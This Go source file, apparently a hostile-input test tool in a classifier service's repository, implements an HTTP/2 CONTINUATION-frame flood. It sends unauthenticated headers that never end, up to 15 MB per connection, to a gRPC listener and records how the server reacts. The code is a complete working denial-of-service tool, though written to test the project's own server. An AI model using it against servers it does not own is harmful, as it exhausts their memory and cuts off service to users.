// Command h2hdr opens HTTP/2 (h2c, prior knowledge) connections to a gRPC
// listener and, on each, starts one request whose header block never ends:
// a HEADERS frame without END_HEADERS, then CONTINUATION frames of literal
// header fields up to -bytes in all, and then nothing. No token is sent, so
// everything the server holds is held before authentication. It holds the
// connections for -hold, then says what each connection saw (a GOAWAY, a
// close) and exits.
package main

import (
	"bytes"
	"flag"
	"fmt"
	"log"
	"net"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/classifierd/classifierd/tools/hostile/internal/probe"
)

func main() {
	addr := flag.String("addr", "127.0.0.1:50051", "gRPC listener")
	conns := flag.Int("conns", 10, "connections")
	size := flag.Int("bytes", 15<<20, "header bytes sent per connection")
	hold := flag.Duration("hold", 30*time.Second, "how long to hold the connections")
	flag.Parse()
	var wg sync.WaitGroup
	var mu sync.Mutex
	seen := map[string]int{}
	for c := 0; c < *conns; c++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			r := run(*addr, *size, *hold)
			mu.Lock()
			seen[r]++
			mu.Unlock()
		}()
	}
	wg.Wait()
	for k, v := range seen {
		fmt.Printf("%d connections: %s\n", v, k)
	}
}

func run(addr string, size int, hold time.Duration) string {
	nc, err := net.Dial("tcp", addr)
	if err != nil {
		return "dial: " + err.Error()
	}
	defer nc.Close()
	fr, err := probe.Start(nc, 0)
	if err != nil {
		return err.Error()
	}
	done := make(chan string, 1)
	go func() {
		for {
			f, err := fr.ReadFrame()
			if err != nil {
				done <- "closed after " + strings.SplitN(err.Error(), ":", 2)[0]
				return
			}
			if g, ok := f.(*http2.GoAwayFrame); ok {
				done <- "goaway " + g.ErrCode.String()
				return
			}
		}
	}()
	var hb bytes.Buffer
	enc := hpack.NewEncoder(&hb)
	probe.WriteFields(enc, probe.Head("POST", "http", "/classifier.v1.ClassifierService/Route", addr, "application/grpc"))
	if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: hb.Bytes(), EndHeaders: false}); err != nil {
		return err.Error()
	}
	val := strings.Repeat("a", 16000)
	sent := 0
	for i := 0; sent < size; i++ {
		hb.Reset()
		_ = enc.WriteField(hpack.HeaderField{Name: fmt.Sprintf("x-pad-%d", i), Value: val, Sensitive: true})
		if err := fr.WriteContinuation(1, false, hb.Bytes()); err != nil {
			return fmt.Sprintf("write after %d bytes: %v", sent, err)
		}
		sent += hb.Len()
	}
	select {
	case r := <-done:
		return fmt.Sprintf("sent %d, %s", sent, r)
	case <-time.After(hold):
		return fmt.Sprintf("sent %d, held %s open", sent, hold)
	}
}

func init() { log.SetFlags(0) }
